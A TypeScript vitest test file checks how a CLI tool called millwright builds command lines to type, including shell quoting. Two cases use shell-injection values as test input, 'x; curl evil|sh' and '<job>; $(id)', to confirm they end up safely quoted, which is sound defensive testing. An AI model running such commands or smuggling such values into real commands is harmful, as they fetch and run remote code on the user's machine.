import { describe, expect, it } from 'vitest'
import type { CommandLine } from '../../domain/hint.ts'
import { commandText } from './command-text.ts'

const CALL = 'npm run millwright --'

type Case = readonly [does: string, command: CommandLine, argv: readonly string[], expected: string]
const cases: readonly Case[] = [
  ['calls the program as here', ['up'], [], `${CALL} up`],
  ['means the same data', ['jobs'], ['show', 'x', '--data', 'd/e'], `${CALL} jobs --data d/e`],
  [
    'keeps the agent’s program last',
    ['submit', '"<prompt>"', '--', '<program>'],
    ['up', '--data=d'],
    `${CALL} submit "<prompt>" --data d -- <program>`,
  ],
  [
    'names the hub to clients',
    ['logs', '-f', '12'],
    ['jobs', '--hub', 'https://h:1', '--token-file', 'a b'],
    `${CALL} logs -f 12 --hub https://h:1 --token-file 'a b'`,
  ],
  [
    'gives no token to the command that creates one',
    ['tokens', 'create', '<name>'],
    ['jobs', '--data', 'd', '--token-file', 'revoked'],
    `${CALL} tokens create <name> --data d`,
  ],
  [
    'leaves out the data of a worker whose hub has another folder',
    ['tokens', 'create', '<name>'],
    ['worker', '--hub', 'https://h:1', '--data', 'd'],
    `${CALL} tokens create <name>`,
  ],
  [
    'quotes names that a shell would read as commands',
    ['jobs', '--group', 'x; curl evil|sh', '--group', "my dad's night", '--group', ''],
    [],
    String.raw`${CALL} jobs --group 'x; curl evil|sh' --group 'my dad'\''s night' --group ''`,
  ],
  [
    'quotes a name that only begins like a placeholder',
    ['wait', '--group', '<job>; $(id)', '--', '"<a>"; id'],
    [],
    `${CALL} wait --group '<job>; $(id)' -- '"<a>"; id'`,
  ],
  ['names no hub to daemons', ['up'], ['jobs', '--hub', 'https://h:1'], `${CALL} up`],
  [
    'leaves the flags of the agent alone',
    ['jobs'],
    ['submit', 'x', '--', 'sh', '--data', 'y'],
    `${CALL} jobs`,
  ],
]

describe('a command to type', () => {
  it.each(cases)('%s', (_, command, argv, expected) => {
    expect(commandText(command, argv, CALL)).toBe(expected)
  })
})
